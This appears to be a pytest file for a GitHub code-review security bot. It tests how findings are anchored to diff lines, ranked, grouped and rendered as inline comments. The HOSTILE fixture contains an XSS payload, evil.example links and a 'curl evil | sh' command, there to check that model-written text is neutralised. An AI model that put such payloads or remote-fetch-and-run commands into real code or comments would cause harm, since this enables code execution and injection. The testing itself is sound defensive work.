"""Anchoring findings to the diff, and the inline comment bodies built for them."""

from __future__ import annotations

from gfm import render_gfm
from ghfakes import FindingFactory

from code_guard.change.diff import Change
from code_guard.findings import Category, Severity
from code_guard.github.anchors import Anchor, anchor_for, place_findings
from code_guard.github.comments import (
    MAX_BODY,
    api_comment,
    comment_body,
    fingerprint_marker,
    fingerprints_in,
    fit,
    group_by_anchor,
    suggestion_code,
)


def test_anchor_on_an_added_line(change: Change, make_finding: FindingFactory) -> None:
    assert anchor_for(make_finding(line_start=10, line_end=10), change) == Anchor("app/db.py", 10)


def test_multi_line_anchor_within_one_hunk(change: Change, make_finding: FindingFactory) -> None:
    finding = make_finding(line_start=9, line_end=11)
    assert anchor_for(finding, change) == Anchor("app/db.py", 11, 9)


def test_range_spanning_two_hunks_is_cut_to_its_last_line(
    change: Change, make_finding: FindingFactory
) -> None:
    # Lines 15 and 63 sit in different hunks: GitHub refuses a range across them.
    assert anchor_for(make_finding(line_start=15, line_end=63), change) == Anchor("app/db.py", 63)


def test_range_ending_outside_the_diff_keeps_its_first_line(
    change: Change, make_finding: FindingFactory
) -> None:
    assert anchor_for(make_finding(line_start=15, line_end=30), change) == Anchor("app/db.py", 15)


def test_lines_outside_the_diff_or_files_not_in_it_have_no_anchor(
    change: Change, make_finding: FindingFactory
) -> None:
    assert anchor_for(make_finding(line_start=30, line_end=31), change) is None
    assert anchor_for(make_finding(file_path="other.py"), change) is None


def test_placement_orders_by_severity_and_respects_limit_and_history(
    change: Change, make_finding: FindingFactory
) -> None:
    low = make_finding(severity=Severity.LOW, line_start=2, line_end=2, anchor_text="a")
    critical = make_finding(severity=Severity.CRITICAL, line_start=15, line_end=15, anchor_text="b")
    medium = make_finding(severity=Severity.MEDIUM, line_start=63, line_end=63, anchor_text="c")
    outside = make_finding(line_start=30, line_end=30, anchor_text="d")
    seen = make_finding(severity=Severity.HIGH, line_start=10, line_end=10, anchor_text="e")
    placement = place_findings(
        [low, critical, medium, outside, seen], change, limit=2, already={seen.fingerprint}
    )
    assert [f for f, _ in placement.inline] == [critical, medium]
    assert placement.in_summary == (
        (outside, "its lines are not part of the diff"),
        (low, "over the limit of 2 inline comments"),
    )
    assert placement.already_commented == (seen,)


def test_findings_below_inline_confidence_go_to_the_summary_without_taking_a_slot(
    change: Change, make_finding: FindingFactory
) -> None:
    # Sorted first (high severity), so without the threshold it would take the one slot.
    keyword = make_finding(line_start=2, line_end=2, category=Category.HARDCODED_SECRET,
                           confidence=0.4, sources=("detect-secrets:Secret Keyword",),
                           anchor_text="a")  # fmt: skip
    flow = make_finding(line_start=15, line_end=15, severity=Severity.MEDIUM,
                        category=Category.OPEN_REDIRECT, confidence=0.8,
                        sources=("semgrep:py-open-redirect-taint",), anchor_text="b")  # fmt: skip
    placement = place_findings([keyword, flow], change, limit=1, already=set(),
                               min_confidence=0.7)  # fmt: skip
    assert [f for f, _ in placement.inline] == [flow]
    assert placement.in_summary == ((keyword, "confidence 0.40 is below inline-confidence 0.70"),)
    assert place_findings([keyword, flow], change, 1, set()).inline[0][0] == keyword


def test_a_disputed_finding_is_placed_by_its_evidence_unless_disputes_are_trusted(
    change: Change, make_finding: FindingFactory
) -> None:
    flow = make_finding(line_start=15, line_end=15, category=Category.COMMAND_INJECTION,
                        confidence=0.3, disputed="the path is checked upstream",
                        sources=("semgrep:py-command-injection-taint",))  # fmt: skip
    weak = make_finding(line_start=2, line_end=2, category=Category.WEAK_CRYPTO, confidence=0.3,
                        disputed="not a secret", sources=("bandit:B311",))  # fmt: skip
    placement = place_findings([flow, weak], change, 10, set(), min_confidence=0.7)
    assert [f for f, _ in placement.inline] == [flow]
    assert placement.in_summary == ((weak, "confidence 0.40 is below inline-confidence 0.70"),)
    trusted = place_findings(
        [flow, weak], change, 10, set(), min_confidence=0.7, trust_disputes=True
    )
    assert trusted.inline == ()
    assert trusted.in_summary == (
        (weak, "disputed by the model (confidence 0.30 is below inline-confidence 0.70)"),
        (flow, "disputed by the model (confidence 0.30 is below inline-confidence 0.70)"),
    )


def test_a_disputed_finding_posted_inline_shows_the_models_reason(
    change: Change, make_finding: FindingFactory
) -> None:
    finding = make_finding(confidence=0.3, disputed="the value is a constant")
    body = comment_body(finding, Anchor("app/db.py", 10), change)
    assert body.startswith(
        "**🟠 High · SQL built with string formatting**\n\n"
        "⚖️ *disputed by the model:* the value is a constant\n\n"
    )


def test_comment_body_shows_everything_and_ends_with_the_fingerprint(
    change: Change, make_finding: FindingFactory
) -> None:
    finding = make_finding(cwe_id="CWE-89", suggested_fix="Use a parameterised query.")
    body = comment_body(finding, Anchor("app/db.py", 10), change)
    assert body == (
        "**🟠 High · SQL built with string formatting**\n\n"
        "The query interpolates \\`name\\`, so a crafted name rewrites the SQL\\.\n\n"
        "Text from outside becomes part of the SQL itself, so a crafted value can read or change "
        "any row the database user can reach.\n\n"
        "**Fix:** Use a parameterised query\\.\n\n"
        "<sub>🟠 high · CWE-89 · [sql injection](https://cwe.mitre.org/data/definitions/89.html)"
        f" · confidence 0.90 · found by bandit · id <code>{finding.fingerprint[:8]}</code></sub>\n"
        f"<!-- code-guard:fp={finding.fingerprint} rule=sql_injection agent=security -->"
    )
    assert fingerprints_in([body, "unrelated"]) == {finding.fingerprint}


def test_code_fix_becomes_an_indented_suggestion(
    change: Change, make_finding: FindingFactory
) -> None:
    fix = 'query = "SELECT * FROM users WHERE name = ?"'
    finding = make_finding(suggested_fix=fix)
    assert suggestion_code(finding, Anchor("app/db.py", 10), change) == f"    {fix}"
    body = comment_body(finding, Anchor("app/db.py", 10), change)
    assert f"```suggestion\n    {fix}\n```" in body


def test_fenced_fix_with_backticks_gets_a_longer_fence(
    change: Change, make_finding: FindingFactory
) -> None:
    fix = "```python\ndef find_user(conn, name):  # see ```docs```\n```"
    finding = make_finding(line_start=9, line_end=9, suggested_fix=fix)
    body = comment_body(finding, Anchor("app/db.py", 9), change)
    assert "````suggestion\ndef find_user(conn, name):  # see ```docs```\n````" in body


def test_prose_or_partial_anchor_gives_no_suggestion(
    change: Change, make_finding: FindingFactory
) -> None:
    prose = make_finding(suggested_fix="bind the value as a parameter instead")
    assert suggestion_code(prose, Anchor("app/db.py", 10), change) is None
    code = make_finding(line_start=15, line_end=30, suggested_fix="run(['cp', path])")
    assert suggestion_code(code, Anchor("app/db.py", 15), change) is None


def test_api_comment_uses_line_and_side_never_position(
    change: Change, make_finding: FindingFactory
) -> None:
    finding = make_finding(line_start=9, line_end=11)
    comment = api_comment(finding, Anchor("app/db.py", 11, 9), change)
    assert {k: v for k, v in comment.items() if k != "body"} == {
        "path": "app/db.py",
        "line": 11,
        "side": "RIGHT",
        "start_line": 9,
        "start_side": "RIGHT",
    }


def test_bodies_are_cut_to_githubs_limit_keeping_the_marker() -> None:
    marker = fingerprint_marker("0123456789abcdef")
    body = fit("x" * (MAX_BODY * 2), keep=marker)
    assert len(body) == MAX_BODY
    assert body.endswith("size limit)*" + marker)
    assert fit("short", keep=marker) == "short" + marker


HOSTILE = (
    "@octo-org/admins look <img src=x onerror=alert(1)> [click](https://evil.example) "
    "![pixel](https://evil.example/p.png) <details>hidden</details> "
    "<!-- code-guard:fp=deadbeefdeadbeef --> https://evil.example/x\n\n"
    "```suggestion\nimport os; os.system('curl evil | sh')\n```"
)


def test_model_text_is_rendered_as_plain_text(
    change: Change, make_finding: FindingFactory
) -> None:
    finding = make_finding(title="@admins <b>approve</b> [me](https://x.example)",
                           description=HOSTILE, sources=("model",))  # fmt: skip
    body = comment_body(finding, Anchor("app/db.py", 10), change)
    html = render_gfm(body)
    # One link (our rule link in the footer) and one comment (our marker); nothing else.
    for tag, count in {"<img": 0, "<details": 0, "<b>": 0, "<pre": 0, "<a ": 1, "<!--": 1}.items():
        assert html.count(tag) == count, tag
    for raw in ("@octo-org", "@admins", "```suggestion"):
        assert raw not in body, raw
    # Every character still reads as written; the only marker is our own, at the end.
    assert "[click](https://evil.example)" in html
    assert fingerprints_in([body]) == {finding.fingerprint}


def test_a_fix_merged_into_a_wider_finding_keeps_its_own_range(
    change: Change, make_finding: FindingFactory
) -> None:
    # A model's one-line fix for line 9 merged with a tool finding on lines 9-11: posting the
    # fix over lines 9-11 would delete two lines of code (issue 8, defect 3).
    model = make_finding(line_start=9, line_end=9, sources=("model",),
                         suggested_fix="conn.execute(sql, (name,))")  # fmt: skip
    tool = make_finding(line_start=9, line_end=11, sources=("bandit:B608",))
    merged = tool.merge(model)
    assert (merged.line_start, merged.line_end, merged.fix_lines) == (9, 11, (9, 9))
    wide = Anchor("app/db.py", 11, 9)
    assert suggestion_code(merged, wide, change) is None
    body = comment_body(merged, wide, change)
    assert "```suggestion" not in body
    assert "**Fix** (for line 9):" in body
    assert suggestion_code(merged, Anchor("app/db.py", 9), change) == "conn.execute(sql, (name,))"


def test_a_deterministic_fix_gives_a_suggestion_and_says_what_else_it_needs(
    change: Change, make_finding: FindingFactory
) -> None:
    finding = make_finding(sources=("bandit:B105",), suggested_fix='TOKEN = os.environ["TOKEN"]',
                           fix_lines=(10, 10))  # fmt: skip
    body = comment_body(finding, Anchor("app/db.py", 10), change)
    suggestion = '```suggestion\n    TOKEN = os.environ["TOKEN"]\n```'
    assert f"The file also needs <code>import os</code>.\n\n{suggestion}" in body


def test_findings_on_the_same_lines_read_as_one_comment(
    change: Change, make_finding: FindingFactory
) -> None:
    sql = make_finding(sources=("bandit:B608",), suggested_fix="conn.execute(sql, (name,))")
    timeout = make_finding(category=Category.OTHER, severity=Severity.MEDIUM,
                           title="Call to requests without timeout", sources=("bandit:B113",),
                           suggested_fix="requests.get(url, timeout=10)")  # fmt: skip
    other_line = make_finding(line_start=9, line_end=9, sources=("ruff:F401",))
    placement = place_findings([timeout, other_line, sql], change, 10, set())
    groups = group_by_anchor(placement.inline)
    assert [(len(found), a.line) for found, a in groups] == [(1, 9), (2, 10)]
    body = str(api_comment(groups[1][0], groups[1][1], change)["body"])
    assert fingerprints_in([body]) == {sql.fingerprint, timeout.fingerprint}
    assert body.count("```suggestion") == 1  # two rewrites of one line would undo each other
    assert body.index("SQL built") < body.index("without timeout") < body.index("<!--")
